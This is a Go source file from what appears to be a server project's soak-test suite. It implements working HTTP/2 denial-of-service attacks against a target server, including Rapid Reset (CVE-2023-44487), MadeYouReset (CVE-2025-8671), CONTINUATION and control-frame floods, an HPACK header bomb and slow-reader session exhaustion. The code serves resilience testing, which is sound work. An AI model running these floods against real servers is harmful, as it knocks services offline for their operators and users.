package attack

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/towpath-go/towpath/e2e/soak/internal/ledger"
)

// batch is how many frames an attack writes at a time.
const batch = 200

var frameAttacks = []Attack{
	{Name: "rapid-reset", What: "requests opened and reset at once (CVE-2023-44487)", Way: ledger.H2, run: rapidReset},
	{Name: "made-you-reset", What: "requests that the victim has to reset (CVE-2025-8671)", Way: ledger.H2, run: madeYouReset},
	{Name: "continuation", What: "a header without end, in CONTINUATION frames", Way: ledger.H2, run: continuation},
	{Name: "settings", What: "SETTINGS to be acknowledged, without end", Way: ledger.H2, run: onAndOn(func(fr *http2.Framer, _ int) {
		fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})},
	{Name: "ping", What: "PINGs to be answered, by a client that does not read", Way: ledger.H2, run: unread(func(fr *http2.Framer, i int) {
		fr.WritePing(false, [8]byte{byte(i)})
	})},
	{Name: "empty-frames", What: "empty DATA frames in a session", Way: ledger.H2, run: inSession(func(fr *http2.Framer, _ int) { fr.WriteData(1, false, nil) })},
	{Name: "priority", What: "PRIORITY_UPDATE of a session's stream", Way: ledger.H2, run: inSession(func(fr *http2.Framer, _ int) { fr.WritePriorityUpdate(1, "u=1") })},
	{Name: "window-updates", What: "WINDOW_UPDATEs of one byte", Way: ledger.H2, run: inSession(func(fr *http2.Framer, _ int) { fr.WriteWindowUpdate(1, 1) })},
	{Name: "header-bomb", What: "HPACK: references to a large field", Way: ledger.H2, run: headerBomb},
	{Name: "requests", What: "ordinary requests as fast as they are answered", Way: ledger.H2, run: requests},
	{Name: "sessions-abandoned", What: "100 sessions opened, and the connection dropped", Way: ledger.H2, run: abandoned},
	{Name: "slow-reader", What: "echoes asked for and never read", Way: ledger.H2, run: slowReader},
}

func rapidReset(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t)
	if err != nil {
		return err
	}
	defer c.close()
	go c.read() // ends with the connection
	block := c.get()
	for id := uint32(1); ; id += 2 * batch {
		p := frames(func(fr *http2.Framer) {
			for i := range uint32(batch) {
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id + 2*i, BlockFragment: block, EndHeaders: true, EndStream: true})
				fr.WriteRSTStream(id+2*i, http2.ErrCodeCancel)
			}
		})
		if err := c.write(2*batch, p); err != nil {
			return err
		}
	}
}

func madeYouReset(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t)
	if err != nil {
		return err
	}
	defer c.close()
	go c.read() // ends with the connection
	block := c.get()
	for id := uint32(1); ; id += 2 * batch {
		p := frames(func(fr *http2.Framer) {
			for i := range uint32(batch) {
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id + 2*i, BlockFragment: block, EndHeaders: true})
				fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id+2*i, []byte{0, 0, 0, 0})
			}
		})
		if err := c.write(2*batch, p); err != nil {
			return err
		}
	}
}

func continuation(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t)
	if err != nil {
		return err
	}
	defer c.close()
	go c.read() // ends with the connection
	block := c.get()
	err = c.write(1, frames(func(fr *http2.Framer) {
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
	}))
	field := c.block("x", "y")
	p := frames(func(fr *http2.Framer) {
		for range batch {
			fr.WriteContinuation(1, false, field)
		}
	})
	for err == nil {
		err = c.write(batch, p)
	}
	return err
}

// onAndOn writes one kind of frame on a connection on which nothing else happens.
func onAndOn(frame func(*http2.Framer, int)) func(context.Context, *Target) error {
	return func(ctx context.Context, t *Target) error { return flood(ctx, t, frame, true) }
}

// unread is onAndOn by a client that does not read.
func unread(frame func(*http2.Framer, int)) func(context.Context, *Target) error {
	return func(ctx context.Context, t *Target) error { return flood(ctx, t, frame, false) }
}

func flood(ctx context.Context, t *Target, frame func(*http2.Framer, int), read bool) error {
	c, err := dialH2(ctx, t)
	if err != nil {
		return err
	}
	defer c.close()
	if read {
		go c.read() // ends with the connection
	}
	p := many(frame)
	for err == nil {
		// A victim that does not take them any more waits for its own deadline.
		c.tc.SetWriteDeadline(time.Now().Add(2 * time.Second))
		err = c.write(batch, p)
	}
	return err
}

func many(frame func(*http2.Framer, int)) []byte {
	return frames(func(fr *http2.Framer) {
		for i := range batch {
			frame(fr, i)
		}
	})
}

// inSession writes one kind of frame after a session was opened on stream 1.
func inSession(frame func(*http2.Framer, int)) func(context.Context, *Target) error {
	return func(ctx context.Context, t *Target) error {
		c, err := dialH2(ctx, t, webTransport...)
		if err != nil {
			return err
		}
		defer c.close()
		go c.read() // ends with the connection
		err = c.session(1)
		p := many(frame)
		for err == nil {
			err = c.write(batch, p)
		}
		return err
	}
}

func headerBomb(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t)
	if err != nil {
		return err
	}
	defer c.close()
	go c.read() // ends with the connection
	// One large field in the dynamic table, and a thousand references to it.
	c.buf.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", t.Address}, {":path", "/"}} {
		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	c.enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)})
	first := append([]byte(nil), c.buf.Bytes()...)
	request := append(c.get(), []byte(strings.Repeat("\xbe", 1000))...)
	for id := uint32(1); ; id += 2 {
		block := request
		if id == 1 {
			block = first
		}
		p := frames(func(fr *http2.Framer) {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
		})
		if err := c.write(1, p); err != nil {
			return err
		}
	}
}

// requests is what an eager client does, not a hostile one: as many requests as
// the victim's limit on streams lets through.
func requests(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t)
	if err != nil {
		return err
	}
	defer c.close()
	go c.read() // ends with the connection
	block := c.get()
	for id := uint32(1); ; id += 20 {
		p := frames(func(fr *http2.Framer) {
			for i := range uint32(10) {
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id + 2*i, BlockFragment: block, EndHeaders: true, EndStream: true})
			}
		})
		if err := c.write(10, p); err != nil {
			return err
		}
		c.mu.Lock()
		for c.err == nil && !answered(c.status, id+18) {
			c.more.Wait()
		}
		err, c.status = c.err, make(map[uint32]bool)
		c.mu.Unlock()
		if err != nil {
			return err
		}
	}
}

// answered says whether there was any answer on a stream.
func answered(status map[uint32]bool, id uint32) bool {
	_, ok := status[id]
	return ok
}

func abandoned(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t, webTransport...)
	if err != nil {
		return err
	}
	defer c.tc.NetConn().Close() // its own doing
	go c.read()                  // ends with the connection
	if err := c.greet(); err != nil {
		return err
	}
	block := c.connect()
	err = c.write(100, frames(func(fr *http2.Framer) {
		for i := range uint32(100) {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*i, BlockFragment: block, EndHeaders: true})
		}
	}))
	c.mu.Lock()
	defer c.mu.Unlock()
	for err == nil && !answered(c.status, 199) {
		c.more.Wait()
		err = c.err
	}
	return err
}

// slowReader opens sessions, has them echo as much as the windows of the victim
// take, and reads nothing.
func slowReader(ctx context.Context, t *Target) error {
	c, err := dialH2(ctx, t, webTransport...)
	if err != nil {
		return err
	}
	defer c.close()
	connect := c.connect()
	err = c.write(20, frames(func(fr *http2.Framer) {
		for i := range uint32(20) {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*i, BlockFragment: connect, EndHeaders: true})
		}
	}))
	// Each session's stream takes some without an answer.
	body := capsules(40, func(b []byte, i int) []byte { return appendStream(b, uint64(4*i), false, make([]byte, 1000)) })
	for i := uint32(0); i < 20 && err == nil; i++ {
		err = c.write(40, frames(func(fr *http2.Framer) { fr.WriteData(1+2*i, false, body[:min(len(body), 3000)]) }))
	}
	for err == nil {
		select {
		case <-ctx.Done():
			err = ctx.Err()
		case <-time.After(200 * time.Millisecond):
			c.tc.SetWriteDeadline(time.Now().Add(2 * time.Second))
			err = c.write(1, frames(func(fr *http2.Framer) { fr.WritePing(false, [8]byte{}) }))
		}
	}
	return err
}
